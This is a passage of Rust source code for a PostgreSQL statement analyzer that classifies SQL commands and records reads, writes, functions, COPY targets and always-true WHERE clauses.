//! One statement through sqlparser: kind, command, relations, writes, functions.

use std::ops::ControlFlow;

use sqlparser::ast::{
    BinaryOperator, CommentObject, CopySource, CopyTarget, DataType, Expr, FromTable, GrantObjects,
    Ident, ObjectName, ObjectNamePart, ObjectType, Query, Reset, SchemaName, Select, Set, SetExpr,
    Statement, TableFactor, TableObject, UnaryOperator, UtilityOption, Value, Visit, Visitor,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::{Parser, ParserError};
use sqlparser::tokenizer::{Token, TokenWithSpan, Tokenizer};

use crate::lexer::{self, LexFlags};
use crate::lineage;
use crate::names::{self, fold, MAX_OPERATOR_CHAIN};
use crate::{
    Analysis, CopyDirection, CopyInfo, CopyTargetKind, LexOptions, ObjectKind, RelationName,
    StatementAnalysis, StatementKind, Write, WriteAction,
};

/// Why a statement is reported as unknown.
#[derive(Debug, thiserror::Error)]
enum Unanalysable {
    #[error("backslash in string literal with standard_conforming_strings=off")]
    BackslashWithoutStandardStrings,
    #[error("a string literal ends in a different place if standard_conforming_strings is off")]
    DependsOnStringMode,
    #[error("a non-ASCII byte before a backslash: the quoting depends on the client encoding")]
    MultibyteBackslash,
    #[error("parse error: {0}")]
    Parse(String),
    #[error(
        "the SQL parser lexes this statement's quoting or identifiers differently from PostgreSQL"
    )]
    LexerDisagreement,
    #[error("the SQL parser reads {0} statements where the splitter found one")]
    SplitDisagreement(usize),
    #[error("unterminated quoted string, identifier or comment")]
    Unterminated,
    #[error("statement type not supported by the analyzer")]
    Unsupported,
    #[error("expression chain longer than {MAX_OPERATOR_CHAIN} operators")]
    TooDeep,
}

pub(crate) struct Outcome {
    pub analysis: Analysis,
    /// The analysis holds for every text with the same fingerprint.
    pub reusable: bool,
    /// How many statements went through sqlparser.
    pub parses: u64,
}

/// Analyses a whole query string whose fingerprint (from `lexer::normalize_into`) is given.
pub(crate) fn analyze_text(
    sql: &str,
    opts: LexOptions,
    fingerprint: &[u8],
    flags: LexFlags,
) -> Outcome {
    let fingerprint_id = format!("{:016x}", lexer::fingerprint_hash(fingerprint));
    let fingerprint = String::from_utf8_lossy(fingerprint).into_owned();
    let ambiguity = if flags.backslash_in_plain_string && !opts.standard_conforming_strings {
        // The server would split and unescape this text differently from sqlparser.
        Some(Unanalysable::BackslashWithoutStandardStrings)
    } else if flags.depends_on_string_mode {
        Some(Unanalysable::DependsOnStringMode)
    } else if flags.multibyte_backslash {
        Some(Unanalysable::MultibyteBackslash)
    } else {
        None
    };
    if let Some(reason) = ambiguity {
        let statement = unknown(sql, opts, reason);
        let analysis = Analysis {
            fingerprint,
            fingerprint_id,
            statements: vec![statement],
            shape_only: false,
        };
        return Outcome {
            analysis,
            reusable: false,
            parses: 0,
        };
    }
    let mut reusable = true;
    let mut parses = 0;
    let pieces = lexer::split(sql, opts);
    let last = pieces.len().saturating_sub(1);
    let statements = pieces
        .into_iter()
        .enumerate()
        .map(|(i, range)| {
            if flags.unterminated && i == last {
                // The server rejects the whole string; the open token runs into the last piece.
                return unknown(
                    sql.get(range).unwrap_or_default(),
                    opts,
                    Unanalysable::Unterminated,
                );
            }
            parses += 1;
            let (statement, literal_dependent) =
                analyze_statement(sql.get(range).unwrap_or_default(), opts);
            reusable &= !literal_dependent;
            statement
        })
        .collect();
    Outcome {
        analysis: Analysis {
            fingerprint,
            fingerprint_id,
            statements,
            shape_only: reusable && crate::cache::cacheable(flags),
        },
        reusable,
        parses,
    }
}

/// Returns the analysis and whether it depends on literal values.
fn analyze_statement(sql: &str, opts: LexOptions) -> (StatementAnalysis, bool) {
    if lexer::longest_operator_chain(sql, opts) > MAX_OPERATOR_CHAIN {
        return (unknown(sql, opts, Unanalysable::TooDeep), false);
    }
    let dialect = PostgreSqlDialect {};
    let tokens = match Tokenizer::new(&dialect, sql).tokenize_with_location() {
        Ok(tokens) => tokens,
        Err(e) => {
            return (
                unknown(sql, opts, Unanalysable::Parse(redact(&e.message))),
                false,
            )
        }
    };
    // Our lexer follows the server; if sqlparser disagrees on where identifiers are, it may be
    // analysing a different statement than the one the server will run.
    if !same_words(&tokens, &lexer::words(sql, opts)) {
        return (unknown(sql, opts, Unanalysable::LexerDisagreement), false);
    }
    let statements = match Parser::new(&dialect)
        .with_tokens_with_locations(tokens)
        .parse_statements()
    {
        Ok(statements) => statements,
        Err(e) => {
            return (
                unknown(sql, opts, Unanalysable::Parse(parse_error(&e))),
                false,
            )
        }
    };
    let [statement] = statements.as_slice() else {
        return (
            unknown(sql, opts, Unanalysable::SplitDisagreement(statements.len())),
            false,
        );
    };
    let Some((kind, command)) = classify(statement, sql, opts) else {
        return (unknown(sql, opts, Unanalysable::Unsupported), false);
    };
    let mut c = Collector::default();
    let _ = statement.visit(&mut c);
    let (output, output_literal_dependent) = lineage::statement_output(statement);
    let analysis = StatementAnalysis {
        kind,
        command,
        reads: c.reads,
        writes: c.writes,
        functions: c.functions,
        has_where: top_level_where(statement),
        where_always_true: c.where_always_true,
        explain_analyze: c.explain_analyze,
        copy: copy_info(statement),
        output,
        unknown: None,
    };
    (analysis, c.literal_dependent || output_literal_dependent)
}

fn unknown(sql: &str, opts: LexOptions, reason: Unanalysable) -> StatementAnalysis {
    StatementAnalysis {
        kind: StatementKind::Unknown,
        command: lexer::leading_command(sql, opts),
        reads: Vec::new(),
        writes: Vec::new(),
        functions: Vec::new(),
        has_where: None,
        where_always_true: false,
        explain_analyze: false,
        copy: None,
        output: None,
        unknown: Some(reason.to_string()),
    }
}

fn same_words(tokens: &[TokenWithSpan], ours: &[(String, bool)]) -> bool {
    let mut theirs = tokens.iter().filter_map(|t| match &t.token {
        Token::Word(w) => Some(w),
        _ => None,
    });
    let all_match = ours.iter().all(|(word, quoted)| {
        theirs.next().is_some_and(|w| match quoted {
            true => w.quote_style == Some('"') && w.value == *word,
            false => w.quote_style.is_none() && w.value.eq_ignore_ascii_case(word),
        })
    });
    all_match && theirs.next().is_none()
}

fn parse_error(e: &ParserError) -> String {
    match e {
        ParserError::TokenizerError(m) | ParserError::ParserError(m) => redact(m),
        ParserError::RecursionLimitExceeded => "recursion limit exceeded".to_owned(),
    }
}

/// sqlparser messages quote the offending token, which may be a literal: cached analyses are
/// shared by texts that differ only in literals, so no literal may reach the reason.
fn redact(message: &str) -> String {
    let message = message.split(" at Line: ").next().unwrap_or(message);
    let (head, found) = match message.split_once("found: ") {
        Some((head, found)) => (head, Some(found)),
        None => (message, None),
    };
    let mut out = String::with_capacity(message.len());
    let mut quoted = false;
    for ch in head.chars() {
        match (ch, quoted) {
            ('\'', _) => {
                quoted = !quoted;
                out.push(if quoted { '<' } else { '>' });
            }
            (_, true) => {}
            _ => out.push(ch),
        }
    }
    if let Some(found) = found {
        let word = found.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && found.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        let punct = found.len() <= 3
            && found
                .chars()
                .all(|c| c.is_ascii_punctuation() && !"'\"$".contains(c));
        out.push_str("found: ");
        out.push_str(if word || punct {
            found
        } else {
            "a literal or quoted token"
        });
    }
    out
}

fn classify(s: &Statement, sql: &str, opts: LexOptions) -> Option<(StatementKind, String)> {
    use StatementKind as K;
    let (kind, command) = match s {
        Statement::Query(q) => match &*q.body {
            SetExpr::Insert(inner)
            | SetExpr::Update(inner)
            | SetExpr::Delete(inner)
            | SetExpr::Merge(inner) => {
                return classify(inner, sql, opts);
            }
            SetExpr::Select(select) if select.into.is_some() => (K::Select, "SELECT INTO"),
            _ => (K::Select, "SELECT"),
        },
        Statement::Insert(_) => (K::Insert, "INSERT"),
        Statement::Update(_) => (K::Update, "UPDATE"),
        Statement::Delete(_) => (K::Delete, "DELETE"),
        Statement::Merge(_) => (K::Merge, "MERGE"),
        Statement::Copy { .. } => (K::Copy, "COPY"),
        Statement::CreateTable(c) if c.query.is_some() => (K::Ddl, "CREATE TABLE AS"),
        Statement::CreateTable(_)
        | Statement::CreateView(_)
        | Statement::CreateIndex(_)
        | Statement::CreateRole(_)
        | Statement::CreateUser(_)
        | Statement::CreateSchema { .. }
        | Statement::CreateDatabase { .. }
        | Statement::CreateFunction(_)
        | Statement::CreateProcedure { .. }
        | Statement::CreateTrigger(_)
        | Statement::CreatePolicy(_)
        | Statement::CreateRule(_)
        | Statement::CreateExtension(_)
        | Statement::CreateSequence { .. }
        | Statement::CreateType { .. }
        | Statement::CreateDomain(_)
        | Statement::CreateForeignTable(_)
        | Statement::CreateForeignDataWrapper(_)
        | Statement::CreateServer(_)
        | Statement::CreateUserMapping(_)
        | Statement::CreateOperator(_)
        | Statement::CreateOperatorFamily(_)
        | Statement::CreateOperatorClass(_)
        | Statement::CreateTextSearch(_)
        | Statement::CreateAggregate(_)
        | Statement::CreateCollation(_)
        | Statement::AlterTable(_)
        | Statement::AlterSchema(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView(_)
        | Statement::AlterFunction(_)
        | Statement::AlterType(_)
        | Statement::AlterCollation(_)
        | Statement::AlterOperator(_)
        | Statement::AlterOperatorFamily(_)
        | Statement::AlterOperatorClass(_)
        | Statement::AlterTextSearch(_)
        | Statement::AlterRole { .. }
        | Statement::AlterUser(_)
        | Statement::AlterPolicy(_)
        | Statement::AlterTrigger(_)
        | Statement::Drop { .. }
        | Statement::DropFunction(_)
        | Statement::DropDomain(_)
        | Statement::DropProcedure { .. }
        | Statement::DropPolicy(_)
        | Statement::DropRule(_)
        | Statement::DropExtension(_)
        | Statement::DropOperator(_)
        | Statement::DropOperatorFamily(_)
        | Statement::DropOperatorClass(_)
        | Statement::DropTrigger(_) => return Some((K::Ddl, lexer::leading_command(sql, opts))),
        Statement::Truncate(_) => (K::Ddl, "TRUNCATE TABLE"),
        Statement::Comment { .. } => (K::Ddl, "COMMENT"),
        Statement::StartTransaction { begin: true, .. } => (K::Transaction, "BEGIN"),
        Statement::StartTransaction { .. } => (K::Transaction, "START TRANSACTION"),
        Statement::Commit { .. } => (K::Transaction, "COMMIT"),
        Statement::Rollback { .. } => (K::Transaction, "ROLLBACK"),
        Statement::Savepoint { .. } => (K::Transaction, "SAVEPOINT"),
        Statement::ReleaseSavepoint { .. } => (K::Transaction, "RELEASE"),
        Statement::Set(set) => (K::Set, set_command(set)),
        Statement::Reset(r) => (
            K::Set,
            match &r.reset {
                Reset::SessionAuthorization => "RESET SESSION AUTHORIZATION",
                Reset::ConfigurationParameter(name) => match guc_command(name) {
                    "SET ROLE" => "RESET ROLE",
                    "SET SESSION AUTHORIZATION" => "RESET SESSION AUTHORIZATION",
                    _ => "RESET",
                },
                Reset::ALL => "RESET",
            },
        ),
        Statement::ShowVariable { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowStatus { .. } => (K::Show, "SHOW"),
        Statement::Explain { .. } => (K::Explain, "EXPLAIN"),
        Statement::Prepare { .. } => (K::Prepare, "PREPARE"),
        Statement::Execute { .. } => (K::Execute, "EXECUTE"),
        Statement::Deallocate { .. } => (K::Deallocate, "DEALLOCATE"),
        Statement::Call(_) => (K::Call, "CALL"),
        Statement::Grant(_) | Statement::GrantRole(_) => (K::Grant, "GRANT"),
        Statement::Revoke(_) | Statement::RevokeRole(_) => (K::Revoke, "REVOKE"),
        Statement::AlterDefaultPrivileges(_) => (K::Grant, "ALTER DEFAULT PRIVILEGES"),
        Statement::Declare { .. } => (K::Utility, "DECLARE CURSOR"),
        Statement::Fetch { .. } => (K::Utility, "FETCH"),
        Statement::Close { .. } => (K::Utility, "CLOSE CURSOR"),
        Statement::LISTEN { .. } => (K::Utility, "LISTEN"),
        Statement::UNLISTEN { .. } => (K::Utility, "UNLISTEN"),
        Statement::NOTIFY { .. } => (K::Utility, "NOTIFY"),
        // DISCARD ALL also resets the role and session authorization.
        Statement::Discard {
            object_type: sqlparser::ast::DiscardObject::ALL,
        } => (K::Utility, "DISCARD ALL"),
        Statement::Discard { .. } => (K::Utility, "DISCARD"),
        Statement::Lock(_) => (K::Utility, "LOCK TABLE"),
        Statement::Analyze(_) => (K::Utility, "ANALYZE"),
        Statement::Vacuum(_) => (K::Utility, "VACUUM"),
        Statement::RefreshMaterializedView(_) => (K::Utility, "REFRESH MATERIALIZED VIEW"),
        _ => return None,
    };
    Some((kind, command.to_owned()))
}

fn set_command(set: &Set) -> &'static str {
    match set {
        Set::SetRole { .. } => "SET ROLE",
        Set::SetSessionAuthorization(_) => "SET SESSION AUTHORIZATION",
        Set::SetTransaction { .. } => "SET TRANSACTION",
        Set::SingleAssignment { variable, .. } => guc_command(variable),
        Set::ParenthesizedAssignments { variables, .. } => most_sensitive(variables.iter()),
        Set::MultipleAssignments { assignments } => {
            most_sensitive(assignments.iter().map(|a| &a.name))
        }
        _ => "SET",
    }
}

/// `SET role = x` is `SET ROLE x` to the server; name it so identity tracking cannot miss it.
fn guc_command(name: &ObjectName) -> &'static str {
    match name
        .0
        .last()
        .and_then(ObjectNamePart::as_ident)
        .map(fold)
        .as_deref()
    {
        Some("role") => "SET ROLE",
        Some("session_authorization") => "SET SESSION AUTHORIZATION",
        _ => "SET",
    }
}

fn most_sensitive<'a>(names: impl Iterator<Item = &'a ObjectName>) -> &'static str {
    names
        .map(guc_command)
        .find(|c| *c != "SET")
        .unwrap_or("SET")
}

fn top_level_where(s: &Statement) -> Option<bool> {
    match s {
        Statement::Update(u) => Some(u.selection.is_some()),
        Statement::Delete(d) => Some(d.selection.is_some()),
        Statement::Query(q) => match &*q.body {
            SetExpr::Update(inner) | SetExpr::Delete(inner) => top_level_where(inner),
            _ => None,
        },
        _ => None,
    }
}

fn copy_info(s: &Statement) -> Option<CopyInfo> {
    let Statement::Copy {
        source, to, target, ..
    } = s
    else {
        return None;
    };
    Some(CopyInfo {
        direction: if *to {
            CopyDirection::To
        } else {
            CopyDirection::From
        },
        target: match source {
            CopySource::Table { .. } => CopyTargetKind::Table,
            CopySource::Query(_) => CopyTargetKind::Query,
        },
        program: matches!(target, CopyTarget::Program { .. }),
        file: matches!(target, CopyTarget::File { .. }),
        stdio: matches!(target, CopyTarget::Stdin | CopyTarget::Stdout),
    })
}

/// CTE names visible at one query level. Without RECURSIVE, a CTE sees only the ones before it.
struct CteScope {
    ctes: Vec<(String, *const Query)>,
    visible: usize,
    recursive: bool,
}

#[derive(Default)]
struct Collector {
    reads: Vec<RelationName>,
    writes: Vec<Write>,
    functions: Vec<String>,
    scopes: Vec<CteScope>,
    /// Depth of EXPLAIN without ANALYZE: the statements inside do not run.
    dry_run: u32,
    where_always_true: bool,
    literal_dependent: bool,
    explain_analyze: bool,
}

impl Collector {
    /// The folded parts of a name.
    fn parts(&mut self, name: &ObjectName) -> Vec<String> {
        names::parts(name, &mut self.literal_dependent)
    }

    fn name(&mut self, name: &ObjectName) -> RelationName {
        names::relation(self.parts(name))
    }

    fn ident_name(&mut self, ident: &Ident) -> RelationName {
        self.name(&ObjectName::from(vec![ident.clone()]))
    }

    fn read(&mut self, name: &ObjectName) {
        let relation = self.name(name);
        self.read_relation(relation);
    }

    fn read_relation(&mut self, relation: RelationName) {
        if !self.reads.contains(&relation) {
            self.reads.push(relation);
        }
    }

    fn write(
        &mut self,
        name: &ObjectName,
        action: WriteAction,
        object: ObjectKind,
        has_where: Option<bool>,
    ) {
        let relation = self.name(name);
        self.write_relation(relation, action, object, has_where);
    }

    fn write_relation(
        &mut self,
        relation: RelationName,
        action: WriteAction,
        object: ObjectKind,
        has_where: Option<bool>,
    ) {
        if self.dry_run > 0 {
            return self.read_relation(relation);
        }
        let write = Write {
            relation,
            action,
            object,
            has_where,
        };
        if !self.writes.contains(&write) {
            self.writes.push(write);
        }
    }

    fn function(&mut self, name: &ObjectName) {
        let rendered = self.parts(name).join(".");
        self.function_named(rendered);
    }

    fn function_named(&mut self, name: String) {
        if !self.functions.contains(&name) {
            self.functions.push(name);
        }
    }

    fn is_cte(&self, name: &ObjectName) -> bool {
        let [part] = name.0.as_slice() else {
            return false;
        };
        let Some(ident) = part.as_ident() else {
            return false;
        };
        let folded = fold(ident);
        self.scopes
            .iter()
            .rev()
            .any(|s| s.ctes.iter().take(s.visible).any(|(n, _)| *n == folded))
    }

    /// Entering (`offset` 0) or leaving (1) the body of a CTE of the enclosing query.
    fn cte_body(&mut self, query: &Query, offset: usize) {
        if let Some(scope) = self.scopes.last_mut().filter(|s| !s.recursive) {
            if let Some(i) = scope.ctes.iter().position(|(_, q)| std::ptr::eq(*q, query)) {
                scope.visible = i + offset;
            }
        }
    }

    fn table_commands(&mut self, body: &SetExpr) {
        match body {
            SetExpr::Table(table) => {
                let parts = [&table.schema_name, &table.table_name];
                let name =
                    ObjectName::from(parts.into_iter().flatten().cloned().collect::<Vec<_>>());
                if !self.is_cte(&name) {
                    self.read(&name);
                }
            }
            SetExpr::SetOperation { left, right, .. } => {
                self.table_commands(left);
                self.table_commands(right);
            }
            _ => {}
        }
    }

    fn check_where(&mut self, selection: Option<&Expr>) {
        if let (Some(e), 0) = (selection, self.dry_run) {
            let mut eval = Eval::default();
            self.where_always_true |= eval.always_true(e);
            self.literal_dependent |= eval.literal_dependent;
        }
    }

    /// Whether an EXPLAIN runs its statement, from `ANALYZE` or `(ANALYZE [bool])`.
    fn explain_runs(&mut self, analyze: bool, options: &Option<Vec<UtilityOption>>) -> bool {
        let mut runs = analyze;
        for option in options
            .iter()
            .flatten()
            .filter(|o| fold(&o.name) == "analyze")
        {
            // Anything we cannot read as false counts as running: fail closed.
            runs = match &option.arg {
                None => true,
                Some(Expr::Value(v)) => match &v.value {
                    Value::Boolean(b) => *b,
                    Value::Number(s, _) | Value::SingleQuotedString(s) => {
                        self.literal_dependent = true;
                        !matches!(s.to_ascii_lowercase().as_str(), "0" | "false" | "off")
                    }
                    _ => true,
                },
                Some(Expr::Identifier(ident)) => !matches!(fold(ident).as_str(), "false" | "off"),
                Some(_) => true,
            };
        }
        runs
    }

    fn grant_objects(&mut self, objects: &Option<GrantObjects>, action: WriteAction) {
        let (names, object): (Vec<&ObjectName>, ObjectKind) = match objects {
            Some(GrantObjects::Tables(v)) => (v.iter().collect(), ObjectKind::Table),
            Some(GrantObjects::Views(v)) => (v.iter().collect(), ObjectKind::View),
            Some(GrantObjects::Sequences(v)) => (v.iter().collect(), ObjectKind::Sequence),
            Some(GrantObjects::Schemas(v)) => (v.iter().collect(), ObjectKind::Schema),
            Some(GrantObjects::Databases(v)) => (v.iter().collect(), ObjectKind::Database),
            Some(
                GrantObjects::AllTablesInSchema { schemas }
                | GrantObjects::AllSequencesInSchema { schemas }
                | GrantObjects::AllViewsInSchema { schemas }
                | GrantObjects::AllMaterializedViewsInSchema { schemas }
                | GrantObjects::AllFunctionsInSchema { schemas }
                | GrantObjects::AllProceduresInSchema { schemas }
                | GrantObjects::AllRoutinesInSchema { schemas },
            ) => (schemas.iter().collect(), ObjectKind::Schema),
            Some(GrantObjects::Functions(v) | GrantObjects::Routines(v)) => {
                (v.iter().map(|f| &f.name).collect(), ObjectKind::Function)
            }
            Some(GrantObjects::Procedures(v)) => {
                (v.iter().map(|f| &f.name).collect(), ObjectKind::Procedure)
            }
            _ => (Vec::new(), ObjectKind::Other),
        };
        for name in names {
            self.write(name, action, object, None);
        }
    }

    /// Records what one statement (top-level or nested) modifies.
    fn effects(&mut self, s: &Statement) {
        use ObjectKind as O;
        use WriteAction as A;
        match s {
            Statement::Insert(i) => {
                if let TableObject::TableName(name) = &i.table {
                    if i.on.is_some() {
                        self.read(name);
                    }
                    self.write(name, A::Insert, O::Table, None);
                }
            }
            Statement::Update(u) => {
                self.check_where(u.selection.as_ref());
                if let TableFactor::Table { name, .. } = &u.table.relation {
                    self.read(name);
                    self.write(name, A::Update, O::Table, Some(u.selection.is_some()));
                }
            }
            Statement::Delete(d) => {
                self.check_where(d.selection.as_ref());
                let (FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from)) = &d.from;
                let targets = from.iter().filter_map(|t| match &t.relation {
                    TableFactor::Table { name, .. } => Some(name),
                    _ => None,
                });
                for name in d.tables.iter().chain(targets) {
                    self.read(name);
                    self.write(name, A::Delete, O::Table, Some(d.selection.is_some()));
                }
            }
            Statement::Merge(m) => {
                if let TableFactor::Table { name, .. } = &m.table {
                    self.read(name);
                    self.write(name, A::Merge, O::Table, None);
                }
            }
            Statement::Copy {
                source: CopySource::Table { table_name, .. },
                to,
                ..
            } => match to {
                true => self.read(table_name),
                false => self.write(table_name, A::CopyFrom, O::Table, None),
            },
            Statement::CreateTable(c) => self.write(&c.name, A::Create, O::Table, None),
            Statement::CreateView(v) => {
                let object = if v.materialized {
                    O::MaterializedView
                } else {
                    O::View
                };
                self.write(&v.name, A::Create, object, None);
            }
            Statement::CreateIndex(i) => self.write(&i.table_name, A::CreateIndex, O::Table, None),
            Statement::CreateRole(r) => r
                .names
                .iter()
                .for_each(|n| self.write(n, A::Create, O::Role, None)),
            Statement::CreateUser(u) => {
                let name = self.ident_name(&u.name);
                self.write_relation(name, A::Create, O::Role, None);
            }
            Statement::CreateSchema { schema_name, .. } => match schema_name {
                SchemaName::Simple(name) | SchemaName::NamedAuthorization(name, _) => {
                    self.write(name, A::Create, O::Schema, None)
                }
                SchemaName::UnnamedAuthorization(ident) => {
                    let name = self.ident_name(ident);
                    self.write_relation(name, A::Create, O::Schema, None);
                }
            },
            Statement::CreateDatabase { db_name, .. } => {
                self.write(db_name, A::Create, O::Database, None)
            }
            Statement::CreateFunction(f) => self.write(&f.name, A::Create, O::Function, None),
            Statement::CreateProcedure { name, .. } => {
                self.write(name, A::Create, O::Procedure, None)
            }
            Statement::CreateTrigger(t) => self.write(&t.table_name, A::Alter, O::Table, None),
            Statement::CreatePolicy(p) => self.write(&p.table_name, A::Alter, O::Table, None),
            Statement::CreateRule(r) => self.write(&r.table_name, A::Alter, O::Table, None),
            Statement::CreateExtension(e) => {
                let name = self.ident_name(&e.name);
                self.write_relation(name, A::Create, O::Extension, None);
            }
            Statement::CreateSequence { name, .. } => {
                self.write(name, A::Create, O::Sequence, None)
            }
            Statement::CreateType { name, .. } => self.write(name, A::Create, O::Type, None),
            Statement::CreateDomain(d) => self.write(&d.name, A::Create, O::Domain, None),
            Statement::CreateForeignTable(f) => {
                self.write(&f.name, A::Create, O::ForeignTable, None)
            }
            Statement::CreateServer(s) => self.write(&s.name, A::Create, O::Server, None),
            Statement::AlterTable(a) => self.write(&a.name, A::Alter, O::Table, None),
            Statement::AlterIndex { name, .. } => self.write(name, A::Alter, O::Index, None),
            Statement::AlterView(v) => {
                let object = if v.materialized {
                    O::MaterializedView
                } else {
                    O::View
                };
                self.write(&v.name, A::Alter, object, None);
            }
            Statement::AlterRole { name, .. } => {
                let name = self.ident_name(name);
                self.write_relation(name, A::Alter, O::Role, None);
            }
            Statement::AlterUser(u) => {
                let name = self.ident_name(&u.name);
                self.write_relation(name, A::Alter, O::Role, None);
            }
            Statement::AlterSchema(a) => self.write(&a.name, A::Alter, O::Schema, None),
            Statement::AlterFunction(f) => {
                self.write(&f.function.name, A::Alter, O::Function, None)
            }
            Statement::AlterType(t) => self.write(&t.name, A::Alter, O::Type, None),
            Statement::AlterPolicy(p) => self.write(&p.table_name, A::Alter, O::Table, None),
            Statement::AlterTrigger(t) => self.write(&t.table_name, A::Alter, O::Table, None),
            Statement::Drop {
                object_type, names, ..
            } => {
                let object = match object_type {
                    ObjectType::Table => O::Table,
                    ObjectType::View => O::View,
                    ObjectType::MaterializedView => O::MaterializedView,
                    ObjectType::ForeignTable => O::ForeignTable,
                    ObjectType::Index => O::Index,
                    ObjectType::Sequence => O::Sequence,
                    ObjectType::Schema => O::Schema,
                    ObjectType::Database => O::Database,
                    ObjectType::Role | ObjectType::User | ObjectType::Group => O::Role,
                    ObjectType::Type => O::Type,
                    _ => O::Other,
                };
                names
                    .iter()
                    .for_each(|n| self.write(n, A::Drop, object, None));
            }
            Statement::DropFunction(d) => d
                .func_desc
                .iter()
                .for_each(|f| self.write(&f.name, A::Drop, O::Function, None)),
            Statement::DropProcedure { proc_desc, .. } => proc_desc
                .iter()
                .for_each(|f| self.write(&f.name, A::Drop, O::Procedure, None)),
            Statement::DropDomain(d) => self.write(&d.name, A::Drop, O::Domain, None),
            Statement::DropExtension(e) => {
                for ident in &e.names {
                    let name = self.ident_name(ident);
                    self.write_relation(name, A::Drop, O::Extension, None);
                }
            }
            Statement::DropTrigger(t) => match &t.table_name {
                Some(table) => self.write(table, A::Alter, O::Table, None),
                None => self.write(&t.trigger_name, A::Drop, O::Trigger, None),
            },
            Statement::DropPolicy(p) => self.write(&p.table_name, A::Alter, O::Table, None),
            Statement::DropRule(r) => self.write(&r.table_name, A::Alter, O::Table, None),
            Statement::Truncate(t) => t
                .table_names
                .iter()
                .for_each(|t| self.write(&t.name, A::Truncate, O::Table, None)),
            Statement::Comment {
                object_type,
                object_name,
                ..
            } => {
                let object = match object_type {
                    CommentObject::Table | CommentObject::Column => O::Table,
                    CommentObject::View => O::View,
                    CommentObject::MaterializedView => O::MaterializedView,
                    CommentObject::ForeignTable => O::ForeignTable,
                    CommentObject::Index => O::Index,
                    CommentObject::Sequence => O::Sequence,
                    CommentObject::Schema => O::Schema,
                    CommentObject::Database => O::Database,
                    CommentObject::Function => O::Function,
                    CommentObject::Procedure => O::Procedure,
                    CommentObject::Role | CommentObject::User => O::Role,
                    CommentObject::Type => O::Type,
                    CommentObject::Domain => O::Domain,
                    CommentObject::Extension => O::Extension,
                    _ => O::Other,
                };
                self.write(object_name, A::Comment, object, None);
            }
            Statement::Grant(g) => self.grant_objects(&g.objects, A::Grant),
            Statement::Revoke(r) => self.grant_objects(&r.objects, A::Revoke),
            Statement::GrantRole(g) => {
                for role in &g.roles {
                    let name = self.ident_name(role);
                    self.write_relation(name, A::Grant, O::Role, None);
                }
            }
            Statement::RevokeRole(r) => {
                for role in &r.roles {
                    let name = self.ident_name(role);
                    self.write_relation(name, A::Revoke, O::Role, None);
                }
            }
            Statement::RefreshMaterializedView(r) => {
                self.write(&r.name, A::Refresh, O::MaterializedView, None)
            }
            Statement::Lock(l) => l
                .tables
                .iter()
                .for_each(|t| self.write(&t.name, A::Lock, O::Table, None)),
            Statement::Analyze(a) => {
                if let Some(name) = &a.table_name {
                    self.write(name, A::Maintain, O::Table, None);
                }
            }
            Statement::Vacuum(v) => {
                if let Some(name) = &v.table_name {
                    self.write(name, A::Maintain, O::Table, None);
                }
            }
            Statement::Call(f) => self.function(&f.name),
            _ => {}
        }
    }
}

impl Visitor for Collector {
    type Break = ();

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        self.cte_body(query, 0);
        let with = query.with.as_ref();
        let ctes: Vec<_> = with
            .iter()
            .flat_map(|w| &w.cte_tables)
            .map(|cte| (fold(&cte.alias.name), &*cte.query as *const Query))
            .collect();
        let recursive = with.is_some_and(|w| w.recursive);
        let visible = if recursive { ctes.len() } else { 0 };
        self.scopes.push(CteScope {
            ctes,
            visible,
            recursive,
        });
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        // `TABLE name` is no table factor; it sees all of this query's CTEs, as now.
        self.table_commands(&query.body);
        self.scopes.pop();
        self.cte_body(query, 1);
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<()> {
        for target in select.into.iter().flat_map(|into| &into.targets) {
            let name = match target {
                Expr::Identifier(ident) => ObjectName::from(vec![ident.clone()]),
                Expr::CompoundIdentifier(idents) => ObjectName::from(idents.clone()),
                _ => continue,
            };
            self.write(&name, WriteAction::SelectInto, ObjectKind::Table, None);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        match factor {
            TableFactor::Table {
                name, args: None, ..
            } if !self.is_cte(name) => self.read(name),
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            }
            | TableFactor::Function { name, .. } => self.function(name),
            TableFactor::UNNEST { .. } => self.function_named("unnest".to_owned()),
            TableFactor::JsonTable { .. } => self.function_named("json_table".to_owned()),
            TableFactor::XmlTable { .. } => self.function_named("xmltable".to_owned()),
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(f) = expr {
            self.function(&f.name);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
        if let Statement::Explain {
            analyze, options, ..
        } = s
        {
            match self.explain_runs(*analyze, options) {
                true => self.explain_analyze = true,
                false => self.dry_run += 1,
            }
        }
        self.effects(s);
        ControlFlow::Continue(())
    }

    fn post_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
        if let Statement::Explain {
            analyze, options, ..
        } = s
        {
            if !self.explain_runs(*analyze, options) {
                self.dry_run = self.dry_run.saturating_sub(1);
            }
        }
        ControlFlow::Continue(())
    }
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Val<'a> {
    Null,
    Bool(bool),
    Num(f64),
    Str(&'a str),
    /// A literal we do not interpret (bit strings, hex numbers...).
    Opaque,
}

/// A constant; `literal` when it comes from a literal that the fingerprint replaces with `?`.
#[derive(Clone, Copy, Debug)]
struct Const<'a> {
    val: Val<'a>,
    literal: bool,
}

impl<'a> Const<'a> {
    fn derived(val: Val<'a>) -> Option<Self> {
        Some(Const {
            val,
            literal: false,
        })
    }
}

/// Best-effort constant folding of a WHERE clause. Every look at a literal's value goes
/// through [`Eval::open`], which records that the result depends on literals.
#[derive(Default)]
struct Eval {
    literal_dependent: bool,
}

impl Eval {
    const MAX_DEPTH: u32 = 64;

    fn always_true(&mut self, e: &Expr) -> bool {
        let truth = self.eval(e, 0).map(|c| self.truth(c));
        truth == Some(Some(true))
    }

